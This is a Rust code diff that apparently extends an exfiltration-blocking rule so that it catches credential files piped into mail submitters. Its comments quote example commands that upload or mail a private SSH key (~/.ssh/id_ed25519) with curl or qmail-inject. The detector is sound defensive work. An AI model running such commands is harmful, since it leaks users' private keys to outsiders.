@@ -109,15 +109,17 @@ fn credential_sent(
             .iter()
             .skip(1)
             .filter_map(|a| a.text.as_deref())
-            .any(super::shells::web_url_elsewhere)
+            .any(|w| super::shells::web_url_elsewhere(w) || mail_address(w))
     };
     for (i, cmd) in commands.iter().enumerate() {
         if !has(i, &sends) && !addressed(cmd) {
             continue;
         }
         // Named by the upload syntax of the sender itself (`curl -F f=@~/.ssh/id_ed25519`,
-        // `curl -d @…`, `http … key@…`, `curl -T …`): the file is what is sent.
-        if let Some(file) = uploads_credential(cmd, ctx) {
+        // `curl -d @…`, `http … key@…`, `curl -T …`), or redirected into what it sends (a mail
+        // submitter told an address, `qmail-inject ops@example.org < ~/.ssh/id_ed25519`): the
+        // file is what is sent.
+        if let Some(file) = uploads_credential(cmd, ctx).or_else(|| fed_credential(cmd, ctx)) {
             return Some(super::block(
                 RuleId::Exfiltration,
                 format!(
@@ -267,6 +269,37 @@ fn uploads_credential(cmd: &Simple, ctx: &Context) -> Option<String> {
                 .resolve(named)
                 .is_some_and(|p| super::rules::credential_path(ctx, &p)))
         .then(|| named.to_string())
+    })
+}
+
+/// A credential store redirected into a command's input (`… < ~/.ssh/id_ed25519`).
+fn fed_credential(cmd: &Simple, ctx: &Context) -> Option<String> {
+    cmd.reads
+        .iter()
+        .find(|r| {
+            r.starts_with(['/', '~'])
+                && ctx
+                    .resolve(r)
+                    .is_some_and(|p| super::rules::credential_path(ctx, &p))
+        })
+        .cloned()
+}
+
+/// An address mail is sent to (`ops@example.org`): a user, `@`, a domain with a dot; not a
+/// package's version (`pkg@1.2.3`) nor `user@host` without a domain.
+fn mail_address(w: &str) -> bool {
+    let w = w.trim_start_matches(['<', '-']).trim_end_matches('>');
+    w.split_once('@').is_some_and(|(user, domain)| {
+        !user.is_empty()
+            && user
+                .bytes()
+                .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'.' | b'_' | b'-' | b'+'))
+            && domain.contains('.')
+            && domain.starts_with(|c: char| c.is_ascii_alphabetic())
+            && domain
+                .rsplit('.')
+                .next()
+                .is_some_and(|tld| tld.len() >= 2 && tld.bytes().all(|b| b.is_ascii_alphabetic()))
     })
 }
 
